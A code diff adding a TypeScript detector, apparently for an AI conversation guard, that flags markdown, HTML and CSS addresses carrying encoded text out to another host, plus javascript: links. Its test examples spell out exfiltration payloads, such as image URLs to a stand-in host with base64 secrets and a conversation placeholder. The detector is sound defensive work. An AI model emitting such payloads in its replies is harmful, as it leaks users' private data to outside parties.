@@ -1,0 +1,128 @@
+import { ORIGINS } from '../../../domain/guard.ts';
+import type { Reading } from '../../../text/view/reading.ts';
+import type { Hit, Places, SpanDetector } from '../../detector.ts';
+import { cargoOf } from './carries.ts';
+
+const LITERALS = ['://', '(//', '"//', "'//", '=//', ': //', '<//', 'javascript:', 'vbscript:'] as const;
+const SCHEMELESS = 1;
+const SCRIPT = LITERALS.indexOf('javascript:');
+
+/** A scheme before `://`, and a longer address than anybody types. */
+const LONGEST_SCHEME = 12;
+const LONGEST_URL = 2048;
+/** What stands before an address and says what it is: an image's description, a tag with its attributes. */
+const CONTEXT = 400;
+
+/** Addresses that carry a text out of the conversation: in images and styles, which load by themselves, and in links. */
+export const exfiltration: SpanDetector = {
+  kind: 'span',
+  id: 'exfiltration',
+  title: 'Data carried out by addresses',
+  types: [
+    { type: 'exfiltration/image', title: 'An image whose address carries a text' },
+    { type: 'exfiltration/link', title: 'A link whose address carries a text' },
+    { type: 'exfiltration/reference', title: 'A reference whose address carries a text' },
+    { type: 'exfiltration/html', title: 'A tag whose address carries a text' },
+    { type: 'exfiltration/style', title: 'A style whose address carries a text' },
+    { type: 'exfiltration/address', title: 'An address that carries a text' },
+    { type: 'exfiltration/script', title: 'A link that runs a script' },
+  ],
+  origins: ORIGINS.filter((origin) => origin !== 'system'),
+  sees: 'canonical',
+  triggers: { literals: LITERALS.map((text) => ({ text, anyCase: true })) },
+  left: CONTEXT + LONGEST_SCHEME,
+  defaults: [{ types: [], origins: [], threshold: 0.6, action: 'flag' }],
+  find: (reading, places) => (places.count === 0 ? [] : addressesIn(reading, places)),
+  unsettled: ({ text, from }, places) => {
+    let open = Math.max(from, text.length - LONGEST_SCHEME - 4);
+    for (let index = 0; index < places.count; index += 1) {
+      const { start, end } = addressAt(text, places.which[index] ?? 0, places.at[index] ?? 0);
+      if (end >= text.length && start >= from) open = Math.min(open, start);
+    }
+    return open;
+  },
+  examples: {
+    fires: () => [
+      [`![](https://collect.example/i.png?d=${secret('base64')})`, 'exfiltration/image'],
+      [`[more](https://collect.example/?leak=${secret('base64url')})`, 'exfiltration/link'],
+      [`[1]: https://collect.example/${secret('hex')}`, 'exfiltration/reference'],
+      [`<img alt="x" src="https://collect.example/?q=${secret('base64')}">`, 'exfiltration/html'],
+      [`background: url('https://collect.example/?q=${secret('hex')}')`, 'exfiltration/style'],
+      ['![x](//collect.example/p?notes=my+account+number+is+the+old+one)', 'exfiltration/image'],
+      ['![x](https://collect.example/p?data={conversation})', 'exfiltration/image'],
+      ['[open](javascript:fetch(1))', 'exfiltration/script'],
+    ],
+    quiet: () => [
+      '![logo](./img/logo.png) and <img src="/static/a.png" alt="a">',
+      '![diagram](https://upload.example.org/commons/6/6a/JavaScript-logo.png?width=640)',
+      '[issue](https://github.com/fastify/fastify/issues/12?tab=comments)',
+      '[search](https://search.example/?q=how+to+bake+a+good+bread)',
+      '![build](https://img.example/badge/build-passing-green?style=flat&label=all+tests+pass)',
+      'https://docs.example/en/latest/guide/how-to-write-a-detector.html#first-steps',
+      'see [JavaScript: the good parts](https://books.example/javascript)',
+    ],
+  },
+};
+
+function secret(encoding: BufferEncoding): string {
+  return Buffer.from('the customer lives in Lisbon').toString(encoding);
+}
+
+function addressesIn({ text }: Reading, places: Places): readonly Hit[] {
+  const hits: Hit[] = [];
+  for (let index = 0; index < places.count; index += 1) {
+    const which = places.which[index] ?? 0;
+    const { start, end } = addressAt(text, which, places.at[index] ?? 0);
+    const { kind, loads } = holderOf(text.slice(Math.max(0, start - CONTEXT), start));
+    if (which >= SCRIPT) {
+      if (kind === 'link' || kind === 'html' || kind === 'reference')
+        hits.push({ type: 'exfiltration/script', start, end, score: 0.7 });
+      continue;
+    }
+    const cargo = end - start < SHORTEST ? null : cargoOf(text.slice(start, end), loads);
+    if (cargo !== null) hits.push({ type: `exfiltration/${kind}`, start, end, score: cargo.score, detail: cargo.how });
+  }
+  return hits;
+}
+
+/** A shorter address carries nothing. */
+const SHORTEST = 20;
+
+function addressAt(text: string, which: number, at: number): { readonly start: number; readonly end: number } {
+  let start = at;
+  if (which === 0)
+    while (start > 0 && at - start < LONGEST_SCHEME && /[a-z+]/i.test(text.charAt(start - 1))) start -= 1;
+  else if (which < SCRIPT) start = at + (LITERALS[which] ?? '').indexOf('//');
+  let end = at + SCHEMELESS;
+  const most = Math.min(text.length, start + LONGEST_URL);
+  while (end < most && !ENDS.has(text.charCodeAt(end))) end += 1;
+  // What stands right behind the literal may be its own quote or bracket.
+  return { start, end };
+}
+
+const ENDS = new Set([9, 10, 13, 32, ...Array.from('"\'<>)`', (mark) => mark.charCodeAt(0))]);
+
+interface Holder {
+  readonly kind: 'image' | 'link' | 'reference' | 'html' | 'style' | 'address';
+  /** Whether it is loaded without anybody asking. */
+  readonly loads: boolean;
+}
+
+/** What the text right before an address makes of it. */
+function holderOf(before: string): Holder {
+  if (/\]\(\s{0,3}<?$/.test(before)) {
+    const open = before.lastIndexOf('[', before.lastIndexOf(']('));
+    return open > 0 && before[open - 1] === '!' ? { kind: 'image', loads: true } : { kind: 'link', loads: false };
+  }
+  if (/(?:^|\n)\s{0,3}\[[^\]\n]{1,100}\]:\s{0,3}<?$/.test(before)) return { kind: 'reference', loads: true };
+  if (/\b(?:url\(|@import)\s{0,3}["']?$/i.test(before)) return { kind: 'style', loads: true };
+  if (
+    /\b(?:src|srcset|background|poster|data|lowsrc|dynsrc|icon|manifest|content|xlink:href)\s{0,3}=\s{0,3}["']?[^"'<>]{0,40}$/i.test(
+      before,
+    )
+  )
+    return { kind: 'html', loads: true };
+  if (/\b(?:href|action|formaction|cite|ping)\s{0,3}=\s{0,3}["']?$/i.test(before))
+    return { kind: 'html', loads: /<link[^>]{0,300}$/i.test(before) };
+  return { kind: 'address', loads: false };
+}
